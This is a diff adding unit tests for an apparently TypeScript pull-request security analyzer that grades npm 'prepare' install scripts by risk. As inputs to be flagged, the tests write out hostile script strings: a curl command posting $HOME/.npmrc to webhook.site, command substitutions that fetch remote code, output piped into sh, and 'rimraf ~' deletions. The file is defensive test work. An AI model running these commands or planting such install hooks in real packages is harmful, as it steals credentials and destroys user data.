@@ -1183,6 +1183,50 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     expect(severity('husky install $(node x.js)')).toEqual(['high']);
   });
 
+  it("keeps a prepare script that only builds the package with its own compiler or bundler low; one that runs the repository's scripts or anything else high", () => {
+    const finding = (prepare: string, extra: Record<string, string> = {}, before: Record<string, string> = {}) =>
+      analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest', ...before } }), pkg({ scripts: { test: 'vitest', prepare, ...extra } })))).findings.filter(
+        (f) => f.id === 'npm-install-script',
+      );
+    const severity = (prepare: string, extra: Record<string, string> = {}, before: Record<string, string> = {}) => finding(prepare, extra, before).map((f) => f.severity);
+    expect(severity('tsc -p tsconfig.build.json')).toEqual(['low']);
+    expect(finding('npm run build', { build: 'tsc -p .' })[0]?.title).toBe('New install script "prepare" in package.json (the package\'s own build)');
+    // The same build moved from prepack to prepare (koa's shape).
+    expect(severity('npm run build', { build: 'tsc -p .' }, { build: 'tsc -p .', prepack: 'npm run build' })).toEqual(['low']);
+    expect(severity('rimraf dist && tsup && husky')).toEqual(['low']);
+    expect(severity('npx vite build --outDir=dist/app')).toEqual(['low']);
+    expect(severity('rollup -c rollup.config.mjs && npm run types', { types: 'tsc --emitDeclarationOnly --declaration' })).toEqual(['low']);
+    expect(severity('esbuild src/index.ts --bundle --platform=node --outfile=dist/index.js')).toEqual(['low']);
+    // A script of the repository, a native build, a download, a tool that is not a build, a path out of the repository: high.
+    expect(severity('npm run build', { build: 'node scripts/build.js' })).toEqual(['high']);
+    expect(severity('tsc && node dist/postinstall.js')).toEqual(['high']);
+    expect(severity('node-gyp rebuild')).toEqual(['high']);
+    expect(severity('patch-package')).toEqual(['high']);
+    expect(severity('vite')).toEqual(['high']);
+    expect(severity('tsc --outDir ../../.ssh')).toEqual(['high']);
+    expect(severity('rimraf ~ && tsc')).toEqual(['high']);
+    expect(severity('rimraf . && tsc')).toEqual(['high']);
+    expect(severity('rimraf')).toEqual(['high']);
+    expect(severity('esbuild --bundle https://example.test/x.js')).toEqual(['high']);
+    expect(severity('tsc | sh')).toEqual(['high']);
+    expect(severity('tsup $(curl -s https://example.test/a)')).toEqual(['high']);
+  });
+
+  it('reports a script that an unchanged install script runs with npm run when the PR changes it, unless it still only builds the package', () => {
+    const findings = (before: Record<string, string>, after: Record<string, string>) =>
+      analyze(snapshotOf(change('package.json', pkg({ scripts: before }), pkg({ scripts: after })))).findings.filter((f) => f.id === 'npm-install-script');
+    const prepare = { test: 'vitest', prepare: 'npm run build', build: 'tsc -p .' };
+    const exfiltrating = findings(prepare, { ...prepare, build: 'curl -s -d @$HOME/.npmrc https://webhook.site/3f1c; tsc -p .' });
+    expect(exfiltrating.map((f) => [f.severity, f.title, f.line])).toEqual([['critical', 'Changed script "build" that install script "prepare" runs, in package.json', 7]]);
+    expect(exfiltrating[0]?.detail).toContain('"build" is now: curl -s');
+    // Two levels down (prepare -> build -> compile), and a yarn/pnpm short form.
+    expect(findings({ prepare: 'yarn build', build: 'npm run compile', compile: 'tsc' }, { prepare: 'yarn build', build: 'npm run compile', compile: 'node scripts/compile.js' }).map((f) => f.severity)).toEqual(['high']);
+    // Still the package's own build, a script no install script runs, an unchanged one: nothing.
+    expect(findings(prepare, { ...prepare, build: 'tsc -b tsconfig.build.json' })).toEqual([]);
+    expect(findings(prepare, { ...prepare, test: 'node scripts/test.js' })).toEqual([]);
+    expect(findings({ ...prepare, build: 'node scripts/build.js' }, { ...prepare, build: 'node scripts/build.js', lint: 'eslint .' })).toEqual([]);
+  });
+
   it('puts dependency review vulnerabilities in the section', () => {
     const section = analyze(
       makeSnapshot({
